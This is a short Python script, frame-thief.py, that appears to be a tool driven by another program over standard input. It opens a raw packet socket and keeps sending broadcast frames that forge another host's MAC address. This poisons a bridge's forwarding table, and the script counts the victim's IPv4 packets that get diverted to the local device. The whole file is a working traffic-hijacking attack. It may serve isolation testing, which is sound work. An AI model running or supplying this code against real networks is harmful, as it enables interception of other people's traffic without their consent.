"""Claims another's MAC address at its bridge again and again: frame-thief.py DEVICE MAC ADDRESS. Prints true when it has done so once, and
for every line on standard input how many IPv4 packets for the other's address have come to DEVICE. Ends with its standard input."""

import json
import select
import socket
import sys

device, mac, address = sys.argv[1:4]
ALL_PROTOCOLS = 0x0003
LOCAL_EXPERIMENTAL = b"\x88\xb5"
frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ALL_PROTOCOLS))
frames.bind((device, 0))
CLAIM = b"\xff" * 6 + bytes.fromhex(mac.replace(":", "")) + LOCAL_EXPERIMENTAL + b"\0" * 46
stolen = 0


def say(what):
    print(json.dumps(what), flush=True)


def is_others(frame):
    return frame[12:14] == b"\x08\x00" and frame[30:34] == socket.inet_aton(address)


frames.send(CLAIM)
say(True)
while True:
    readable, _, _ = select.select([frames, sys.stdin], [], [], 0.005)
    if frames in readable:
        stolen += is_others(frames.recv(65535))
    if sys.stdin in readable:
        if not sys.stdin.readline():
            break
        say(stolen)
    frames.send(CLAIM)
